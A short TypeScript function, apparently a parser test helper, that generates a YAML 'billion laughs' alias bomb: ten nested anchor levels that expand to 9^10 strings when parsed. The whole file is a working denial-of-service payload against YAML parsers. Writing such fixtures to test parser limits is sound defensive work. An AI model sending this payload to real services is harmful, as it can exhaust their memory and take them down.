/**
 * "Billion laughs" in YAML: ten levels of anchors, each a list of nine aliases of the level before, so a few
 * hundred bytes expand to 9^10 strings when turned into data.
 */
export function aliasBomb(): string {
  const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let level = 1; level < 10; level += 1) {
    const name = String.fromCharCode(97 + level);
    const previous = String.fromCharCode(96 + level);
    levels.push(`${name}: &${name} [${Array.from({ length: 9 }, () => `*${previous}`).join(',')}]`);
  }
  return `${levels.join('\n')}\n`;
}
